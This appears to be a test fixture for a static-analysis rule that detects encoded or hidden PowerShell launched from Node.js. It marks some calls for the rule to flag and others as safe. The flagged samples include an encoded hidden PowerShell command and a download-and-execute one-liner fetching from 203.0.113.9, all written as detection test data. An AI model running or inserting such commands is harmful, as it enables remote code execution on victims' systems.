const { exec, spawn } = require("child_process");

// ruleid: javascript-powershell-encoded
exec("powershell -nop -w hidden -enc SQBFAFgA");
// ruleid: javascript-powershell-encoded
spawn("powershell.exe", ["-NoProfile", "-EncodedCommand", "SQBFAFgA"]);
// ruleid: javascript-powershell-encoded
exec("powershell IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a')");
// ok: javascript-powershell-encoded
spawn("powershell.exe", ["-File", "build.ps1"]);
// ok: javascript-powershell-encoded
exec("powershell -ExecutionPolicy RemoteSigned -File build.ps1");
// ok: javascript-powershell-encoded
spawn("git", ["-e", "x"]);
